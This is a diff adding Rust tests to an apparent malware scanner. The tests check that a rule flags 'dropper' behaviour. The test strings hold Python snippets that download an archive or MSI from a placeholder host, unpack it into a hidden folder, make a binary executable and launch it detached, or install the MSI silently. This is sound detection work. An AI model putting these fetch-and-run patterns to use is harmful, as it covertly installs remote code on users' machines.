@@ -97,3 +97,44 @@ fn a_public_resolver_kept_encoded_is_no_hijack() {
     let a = run(quad9);
     assert!(!rules(&a).contains(&"MB947"), "{:?}", a.findings);
 }
+
+/// A zip saved from a response with `copyfileobj`, extracted into a hidden
+/// folder, and a member of it made executable and started is a dropper
+/// (ca13d28: LOW, the copy and the extraction were not followed).
+#[test]
+fn a_downloaded_archive_extracted_and_run_is_a_dropper() {
+    let stage = "import os, shutil, subprocess, urllib.request, zipfile\nD = os.path.expanduser('~/.cache/.upd')\nwith urllib.request.urlopen('https://x.example/p.zip') as r, open('/tmp/p.zip', 'wb') as fh:\n    shutil.copyfileobj(r, fh)\nwith zipfile.ZipFile('/tmp/p.zip') as z:\n    z.extractall(D)\nexe = os.path.join(D, 'updd')\nos.chmod(exe, 0o755)\nsubprocess.Popen([exe], start_new_session=True)\n";
+    let a = run(stage);
+    assert!(rules(&a).contains(&"MB915"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+    let unpacked = stage.replace(
+        "with zipfile.ZipFile('/tmp/p.zip') as z:\n    z.extractall(D)",
+        "shutil.unpack_archive('/tmp/p.zip', D)",
+    );
+    assert!(rules(&run(&unpacked)).contains(&"MB915"));
+}
+
+/// An extracted download that is only read (documentation), or a program
+/// run from elsewhere, is no dropper.
+#[test]
+fn an_extracted_download_that_is_not_run_is_no_dropper() {
+    let docs = "import os, shutil, subprocess, urllib.request, zipfile\nD = 'docs'\nwith urllib.request.urlopen('https://x.example/d.zip') as r, open('/tmp/d.zip', 'wb') as fh:\n    shutil.copyfileobj(r, fh)\nwith zipfile.ZipFile('/tmp/d.zip') as z:\n    z.extractall(D)\nprint(open(os.path.join(D, 'index.html')).read()[:80])\nsubprocess.run(['/usr/bin/xdg-open', 'https://x.example'])\n";
+    let a = run(docs);
+    assert!(!rules(&a).contains(&"MB915"), "{:?}", a.findings);
+    assert_ne!(a.verdict, Verdict::Blocked);
+}
+
+/// An installer package saved from the network and handed to `msiexec`
+/// among its options is run (ca13d28: LOW, only the first word was
+/// compared).
+#[test]
+fn a_downloaded_package_given_to_msiexec_is_a_dropper() {
+    let setup = "import subprocess, urllib.request\nurllib.request.urlretrieve('http://203.0.113.9/c.msi', 'C:/Temp/c.msi')\nsubprocess.Popen(['msiexec', '/i', 'C:/Temp/c.msi', '/qn'], creationflags=0x08000000)\n";
+    let a = run(setup);
+    assert!(rules(&a).contains(&"MB915"), "{:?}", a.findings);
+    let other = setup.replace(
+        "['msiexec', '/i', 'C:/Temp/c.msi', '/qn']",
+        "['msiexec', '/x', '{GUID}', '/qn']",
+    );
+    assert!(!rules(&run(&other)).contains(&"MB915"));
+}
